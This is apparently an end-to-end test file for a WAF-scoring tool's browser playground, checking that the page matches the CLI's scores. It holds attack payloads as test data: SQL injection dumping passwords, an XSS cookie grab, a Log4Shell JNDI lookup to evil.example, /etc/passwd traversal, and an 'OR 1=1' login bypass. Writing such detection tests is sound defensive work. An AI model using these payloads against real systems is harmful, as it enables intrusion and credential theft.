// e2e: the playground (node/playground/) in headless Chromium shows, for values and a raw request,
// the scores, band, worst part and fragments that `wafscore score` and `wafscore scan` print for
// the same input. Starts its own static server on a free loopback port. Run by `make test` (e2e).
import { accessSync, constants, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Browser, Page } from "playwright-core";
import { main as cli } from "../../node/cli";
import { freePort } from "../../node/compare/peer";
import { startPlayground, type Playground } from "../../node/playground/server";

/** Debian's chromium (scripts/ensure-chromium.sh, run by `make test`), or PLAYGROUND_CHROMIUM. */
function findChromium(): string | null {
  const candidates = process.env.PLAYGROUND_CHROMIUM
    ? [process.env.PLAYGROUND_CHROMIUM]
    : (process.env.PATH ?? "").split(":").flatMap((d) => ["chromium", "chromium-browser"].map((b) => path.join(d, b)));
  for (const c of candidates) {
    try { accessSync(c, constants.X_OK); return c; } catch { /* next */ }
  }
  return null;
}

// Values: each scored as `wafscore score TEXT --where W --explain` would (attacks and benign ones).
const VALUES: Array<{ where: string; text: string; scoredAs?: string }> = [
  { where: "query", text: "id=1' UNION SELECT username, password FROM users--" },
  { where: "body:text", text: "<img src=x onerror=alert(document.cookie)>" },
  { where: "header:User-Agent", text: "Mozilla/5.0 ${jndi:ldap://evil.example/a}" },
  { where: "path", text: "/download/../../../../etc/passwd" },
  { where: "query", text: "q=blue running shoes&page=2&sort=price" },
  { where: "body:json", text: '{"name":"Ann","comment":"Great product, arrived on time."}' },
  // auto: not a request line, so one value as body:text (the CLI's default where).
  { where: "auto", text: "Looking for a size 42 in navy, thanks!", scoredAs: "body:text" },
];

// A raw request: scored as `wafscore scan FILE --json` scores it (default configuration).
const RAW = [
  "POST /login?next=%2Faccount HTTP/1.1",
  "Host: shop.example",
  "User-Agent: Mozilla/5.0 (X11; Linux x86_64)",
  "Content-Type: application/x-www-form-urlencoded",
  "Content-Length: 41",
  "",
  "user=admin' OR '1'='1'--&pass=secret12345",
].join("\r\n");

/** Runs the CLI in this process and returns what it printed (one call at a time: it borrows console.log). */
async function runCli(argv: string[]): Promise<string> {
  const lines: string[] = [];
  const log = console.log;
  console.log = (...a: unknown[]) => { lines.push(a.join(" ")); };
  try {
    const code = await cli(argv);
    if (code !== 0) throw new Error(`wafscore ${argv.join(" ")} exited ${code}`);
  } finally {
    console.log = log;
  }
  return lines.join("\n");
}

interface Shown { overall: number; band: string; worstClass: string; classes: Record<string, number>; part: string | null; fragments: string[]; marked: string[]; action: string | null }

/** What the first result card on the page shows. */
async function shown(page: Page): Promise<Shown> {
  return page.$eval("#results .card", (c) => ({
    overall: Number(c.querySelector("[data-overall]")!.textContent),
    band: c.querySelector("[data-band]")!.getAttribute("data-band")!,
    worstClass: c.querySelector("[data-worst-class]")!.textContent!,
    classes: Object.fromEntries([...c.querySelectorAll("tr[data-class]")].map((tr) => [tr.getAttribute("data-class")!, Number(tr.querySelector("[data-class-score]")!.textContent)])),
    part: c.querySelector("[data-part]")?.textContent ?? null,
    fragments: [...c.querySelectorAll("[data-fragment]")].map((li) => JSON.parse(li.textContent!) as string),
    marked: [...c.querySelectorAll("[data-part-text] mark")].map((m) => m.textContent!),
    action: c.querySelector("[data-action]")?.textContent ?? null,
  }));
}

/** Types the input into the page, picks how it is read, presses Score and waits for that result. */
async function enter(page: Page, where: string, text: string): Promise<Shown> {
  await page.fill("#input", text);
  await page.selectOption("#where", where);
  await page.click("#score");
  // A textarea's value has LF line ends (HTML normalizes CR LF), so a raw request arrives with
  // bare LFs, which the raw reader takes as line ends too.
  const asTyped = text.replace(/\r\n?/g, "\n");
  await expect.poll(() => page.getAttribute("#results", "data-for"), { timeout: 5000 }).toBe(JSON.stringify([where, asTyped]));
  return shown(page);
}

const chromiumPath = findChromium();
if (!chromiumPath) {
  const where = process.env.PLAYGROUND_CHROMIUM ? `PLAYGROUND_CHROMIUM=${process.env.PLAYGROUND_CHROMIUM} is not an executable` : "no chromium or chromium-browser on the PATH";
  console.warn(`playground e2e SKIPPED: ${where}; \`make test\` installs Debian's chromium (scripts/ensure-chromium.sh)`);
}
const title = chromiumPath ? "playground in headless Chromium" : "playground in headless Chromium: SKIPPED, no chromium binary (scripts/ensure-chromium.sh installs it)";

describe.skipIf(!chromiumPath)(title, () => {
  let server: Playground;
  let browser: Browser;
  let page: Page;
  const pageErrors: string[] = [];

  beforeAll(async () => {
    const { chromium } = await import("playwright-core");
    server = await startPlayground(await freePort());
    browser = await chromium.launch({ executablePath: chromiumPath!, headless: true });
    page = await browser.newPage();
    page.on("pageerror", (e) => pageErrors.push(e.message));
    await page.goto(server.url);
    await page.waitForSelector("#status[data-ready], #status[data-error]", { timeout: 10_000 });
    expect(await page.textContent("#status")).toMatch(/^core\.wasm ready/);
  });

  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  it("serves the page on loopback and nothing outside node/", async () => {
    expect(server.url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/$/);
    for (const p of ["node/core.ts", "node/%2e%2e/package.json", "node/../Makefile", "build/core.wasm"]) {
      const status = p === "node/core.ts" ? 200 : 404; // core.ts is under node/ (the page never loads it)
      expect((await fetch(server.url + p)).status, p).toBe(status);
    }
    expect((await fetch(server.url + "core.wasm")).headers.get("content-type")).toBe("application/wasm");
  });

  for (const v of VALUES) {
    it(`shows what \`wafscore score\` gives: ${v.where} ${JSON.stringify(v.text.slice(0, 40))}`, async () => {
      const where = v.scoredAs ?? v.where;
      const json = JSON.parse(await runCli(["score", v.text, "--where", where, "--explain", "--json"])) as
        { score: number; classes: Record<string, number>; worstClass: string; worstWhere: string | null; worstName: string; explain: string[] };
      const text = await runCli(["score", v.text, "--where", where]);
      const band = /^score \d+ \(([a-z ]+)\)/.exec(text)![1];
      const s = await enter(page, v.where, v.text);
      expect(s.overall).toBe(json.score);
      expect(s.band).toBe(band);
      expect(s.worstClass).toBe(json.worstClass);
      expect(s.classes).toEqual(json.classes);
      expect(s.part).toBe(json.worstWhere ? `${json.worstWhere}${json.worstName ? ":" + json.worstName : ""}` : null);
      expect(s.fragments).toEqual(json.explain);
      // Every fragment is highlighted in the part's text (merged where fragments overlap).
      for (const f of json.explain) expect(s.marked.some((m) => m.includes(f)), `${f} in ${JSON.stringify(s.marked)}`).toBe(true);
    });
  }

  it("the values cover attacks and benign inputs (the table above means something)", async () => {
    const scores: number[] = [];
    for (const v of VALUES) scores.push((JSON.parse(await runCli(["score", v.text, "--where", v.scoredAs ?? v.where, "--json"])) as { score: number }).score);
    expect(scores.filter((s) => s <= 20).length).toBeGreaterThanOrEqual(3);
    expect(scores.filter((s) => s > 50).length).toBeGreaterThanOrEqual(2);
  });

  it("shows what `wafscore scan --json` gives for a raw request (auto-detected)", async () => {
    const dir = mkdtempSync(path.join(tmpdir(), "wafscore-playground-"));
    try {
      const file = path.join(dir, "request.http");
      writeFileSync(file, RAW);
      const report = JSON.parse(await runCli(["scan", file, "--json", "--no-progress", "--no-suggest"])) as
        { requests: number; configs: Array<{ worst: Array<{ score: number; classes: Record<string, number>; class: string; action: string; part: string; explain: string[] }> }> };
      expect(report.requests).toBe(1);
      const w = report.configs[0].worst[0];
      expect(w, "the scan flags the raw request").toBeDefined();
      const s = await enter(page, "auto", RAW);
      expect(s.overall).toBe(w.score);
      expect(s.classes).toEqual(w.classes);
      expect(s.worstClass).toBe(w.class);
      expect(s.action).toBe(w.action);
      expect(s.part).toBe(w.part);
      expect(s.fragments).toEqual(w.explain);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("raised no error in the page", () => {
    expect(pageErrors).toEqual([]);
  });
});
